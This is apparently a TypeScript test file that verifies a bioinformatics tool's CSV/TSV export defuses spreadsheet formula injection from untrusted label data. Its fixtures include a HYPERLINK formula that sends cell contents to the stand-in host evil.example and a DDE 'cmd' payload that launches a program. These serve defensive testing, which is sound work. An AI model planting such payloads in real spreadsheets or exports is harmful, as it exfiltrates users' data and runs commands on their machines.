/**
 * Export of labels from an untrusted bundle: CSV/TSV cells that a
 * spreadsheet would run as formulas get a leading quote (OWASP), CSV quotes
 * per RFC 4180, TSV escapes tab/CR/LF/backslash reversibly, JSON is exact,
 * and --no-formula-escape writes the text as it is.
 */
import { test } from "node:test";
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { join } from "node:path";
import { promisify } from "node:util";
import fc from "fast-check";
import {
  CellucidSessionBundle, buildExportTable, createSessionWriter, escapeCell, exportText, unescapeTsvCell, writeSessionFile,
} from "../src/node/index.js";
import { openAnnData } from "../src/anndata/open.js";
import { CLI, withTempDir } from "./helpers.js";
import { python } from "./python.js";

const run = promisify(execFile);

/** Labels as a hostile bundle would carry them; the first six start like formulas. */
const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=cmd|' /C calc'!A0", "\r=1+1"];
const PLAIN = ["plain", "with,comma", 'with "quotes"', "line\nbreak", "back\\slash and \\t", "tab\tinside", "cr\rinside", "crlf\r\nend", "'already quoted", "trailing=", "", "naïve ✓"];
const LABELS = [...DANGEROUS, ...PLAIN];
const N = LABELS.length;

async function hostileBundle(dir: string, highlightsPrefix = ""): Promise<string> {
  const w = createSessionWriter({ canonical: false, datasetFingerprint: { sourceType: "local-user", datasetId: "hostile", cellCount: N, varCount: 1 } });
  w.addHighlightPage({ id: "p", name: "P", groups: [{ id: "g", label: "G", cells: [0, 2] }] });
  w.addUserDefinedField({ id: "f", key: "label", source: "obs", categories: LABELS, codes: Uint8Array.from(LABELS, (_, i) => i) });
  const path = join(dir, `hostile${highlightsPrefix ? "-p" : ""}.cellucid-session`);
  await writeSessionFile(w, path);
  return path;
}

async function cli(...args: string[]): Promise<string> {
  const { stdout } = await run(process.execPath, [CLI, ...args], { timeout: 30_000 });
  return stdout;
}

/** An RFC 4180 reader, written for this test: quoted fields may hold separators, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === "") quoted = true;
    else if (ch === ",") row.push(cell), (cell = "");
    else if (ch === "\n") row.push(cell), rows.push(row), (row = []), (cell = "");
    else cell += ch;
  }
  assert.equal(cell, "", "the file ends with a line break");
  return rows;
}

const neutralised = (s: string) => (DANGEROUS.includes(s) ? `'${s}` : s);

test("CSV: formula-like labels get a leading quote, separators/quotes/line breaks are RFC 4180 quoted, index and true/false are not touched", async () => {
  await withTempDir(async (dir) => {
    const rows = parseCsv(await cli("export", await hostileBundle(dir), "--format", "csv"));
    assert.deepEqual(rows[0], ["index", "cellucid_highlight__g", "label"]);
    assert.equal(rows.length, N + 1);
    for (let i = 0; i < N; i++) assert.deepEqual(rows[i + 1], [String(i), i === 0 || i === 2 ? "true" : "false", neutralised(LABELS[i]!)], JSON.stringify(LABELS[i]));
    // Straight from the text: each dangerous cell starts with the quote, inside RFC 4180 quotes when those are needed.
    const text = await cli("export", await hostileBundle(dir), "--format", "csv");
    assert.ok(text.includes(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\n`));
    assert.ok(text.includes(",'+1+2\n") && text.includes(",'-2+3\n") && text.includes(",'@SUM(A1:A9)\n"));
    assert.ok(text.includes(",'\t=cmd|' /C calc'!A0\n"));
    assert.ok(text.includes(`,"'\r=1+1"\n`));
  });
});

test("TSV: formula-like labels get a leading quote; tab, CR, LF and backslash are escaped and unescapeTsvCell restores them", async () => {
  await withTempDir(async (dir) => {
    const text = await cli("export", await hostileBundle(dir));
    const lines = text.slice(0, -1).split("\n");
    assert.equal(lines.length, N + 1, "no raw line break inside a cell");
    assert.ok(!text.includes("\r"));
    for (let i = 0; i < N; i++) {
      const cells = lines[i + 1]!.split("\t");
      assert.equal(cells.length, 3, `row ${i}: no raw tab inside a cell`);
      assert.deepEqual(cells.slice(0, 2), [String(i), i === 0 || i === 2 ? "true" : "false"]);
      assert.equal(unescapeTsvCell(cells[2]!), neutralised(LABELS[i]!), JSON.stringify(LABELS[i]));
    }
    assert.equal(lines[5]!.split("\t")[2], "'\\t=cmd|' /C calc'!A0");
    assert.equal(lines[6]!.split("\t")[2], "'\\r=1+1");
    assert.equal(lines[1 + LABELS.indexOf("back\\slash and \\t")]!.split("\t")[2], "back\\\\slash and \\\\t");
  });
});

test("--no-formula-escape: CSV and TSV carry every label exactly (TSV through unescapeTsvCell); JSON is always exact", async () => {
  await withTempDir(async (dir) => {
    const bundle = await hostileBundle(dir);
    const csv = parseCsv(await cli("export", bundle, "--format", "csv", "--no-formula-escape"));
    assert.deepEqual(csv.slice(1).map((r) => r[2]), LABELS);
    const tsv = (await cli("export", bundle, "--format", "tsv", "--no-formula-escape")).slice(0, -1).split("\n");
    assert.deepEqual(tsv.slice(1).map((l) => unescapeTsvCell(l.split("\t")[2]!)), LABELS);
    assert.ok(tsv[1]!.endsWith("\t=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"));
    for (const extra of [[], ["--no-formula-escape"]]) {
      const rows = JSON.parse(await cli("export", bundle, "--format", "json", ...extra)) as Record<string, unknown>[];
      assert.deepEqual(rows.map((r) => r["label"]), LABELS);
      assert.deepEqual(rows.map((r) => r["index"]), LABELS.map((_, i) => i));
    }
    // Column names are text too: a formula-like prefix is neutralised in the header.
    const header = (await cli("export", bundle, "--format", "csv", "--highlights-prefix", "=x_")).split("\n")[0];
    assert.equal(header, "index,'=x_g,label");
  });
});

test("library: exportText's formulaEscape option and row names; escapeCell/unescapeTsvCell round-trip any text", async () => {
  await withTempDir(async (dir) => {
    const bundle = await CellucidSessionBundle.open(await hostileBundle(dir));
    try {
      const rowNames = LABELS.map((l, i) => (i === 1 ? "=cell-1" : `cell-${i}`));
      const t = await buildExportTable(bundle, { rowNames });
      const text = async (opts: Parameters<typeof exportText>[2]) => {
        let out = "";
        for await (const piece of exportText(t, "tsv", opts)) out += piece;
        return out;
      };
      const escaped = (await text({ batchRows: 3 })).split("\n");
      assert.equal(escaped[0], "obs_name\tcellucid_highlight__g\tlabel");
      assert.ok(escaped[2]!.startsWith("'=cell-1\tfalse\t'+1+2"));
      const verbatim = (await text({ formulaEscape: false })).split("\n");
      assert.ok(verbatim[2]!.startsWith("=cell-1\tfalse\t+1+2"));
    } finally {
      await bundle.close();
    }
  });
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 40 }), (s) => {
      const cell = escapeCell(s, "tsv", false);
      assert.ok(!/[\t\r\n]/.test(cell));
      assert.equal(unescapeTsvCell(cell), s);
      const quoted = escapeCell(s, "tsv");
      assert.equal(unescapeTsvCell(quoted), /^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
      assert.deepEqual(parseCsv(escapeCell(s, "csv", false) + "\n"), [[s]]);
    }),
    { numRuns: 500 },
  );
});

test("obs names read from an .h5ad as UTF-8 bytes export exactly as the same names as strings: every format, with and without formula escaping, names that need escaping, non-ASCII names, bytes that are not UTF-8", async () => {
  await withTempDir(async (dir) => {
    const names = [...LABELS, "\u0001control", "bad\\xffbyte"];
    const h5ad = join(dir, "names.h5ad");
    // The index is rewritten as h5py variable-length bytes so that one name can hold a byte that is not UTF-8.
    await python(`
import sys, json, numpy as np, pandas as pd, anndata as ad, h5py
names = json.loads(sys.argv[2])
ad.AnnData(X=np.zeros((len(names), 1), dtype=np.float32), obs=pd.DataFrame(index=[f"n{i}" for i in range(len(names))]), var=pd.DataFrame(index=["g"])).write_h5ad(sys.argv[1])
with h5py.File(sys.argv[1], "r+") as f:
    attrs = dict(f["obs/_index"].attrs)
    del f["obs/_index"]
    d = f["obs"].create_dataset("_index", data=np.array([n.encode("utf-8").replace(b"\\\\xff", b"\\xff") for n in names], dtype=object), dtype=h5py.special_dtype(vlen=bytes))
    for k, v in attrs.items(): d.attrs[k] = v
print(1)`, h5ad, JSON.stringify(names));
    const w = createSessionWriter({ canonical: false, datasetFingerprint: { sourceType: "local-user", datasetId: "names", cellCount: names.length, varCount: 1 } });
    w.addHighlightPage({ id: "p", name: "P", groups: [{ id: "g", label: "G", cells: [0, 2, names.length - 1] }] });
    w.addUserDefinedField({ id: "f", key: "label", source: "obs", categories: LABELS, codes: Uint8Array.from(names, (_, i) => i % LABELS.length) });
    const bundlePath = join(dir, "names.cellucid-session");
    await writeSessionFile(w, bundlePath);

    const store = await openAnnData(h5ad, { mode: "r" });
    const bundle = await CellucidSessionBundle.open(bundlePath);
    try {
      const strings = await store.readIndex("obs");
      assert.equal(strings[names.length - 1], "bad\uFFFDbyte");
      assert.ok(await store.readIndexUtf8!("obs", 0, names.length), "the .h5ad store reads names as bytes");
      const byBytes = { length: names.length, read: (s: number, e: number) => store.readIndexRange("obs", s, e), readUtf8: (s: number, e: number) => store.readIndexUtf8!("obs", s, e) };
      for (const format of ["tsv", "csv", "json"] as const) {
        for (const formulaEscape of [true, false]) {
          const collect = async (t: Awaited<ReturnType<typeof buildExportTable>>, batchRows: number) => {
            let out = "";
            for await (const piece of exportText(t, format, { batchRows, formulaEscape })) out += piece;
            return out;
          };
          const expected = await collect(await buildExportTable(bundle, { rowNames: strings }), 8192);
          const what = `${format}${formulaEscape ? "" : " --no-formula-escape"}`;
          assert.equal(await collect(await buildExportTable(bundle, { rowNames: byBytes }), 3), expected, `library, ${what}`);
          assert.equal(await cli("export", bundlePath, "--obs-names", h5ad, "--format", format, ...(formulaEscape ? [] : ["--no-formula-escape"])), expected, `CLI, ${what}`);
        }
      }
    } finally {
      await bundle.close();
      await store.close();
    }
  });
});
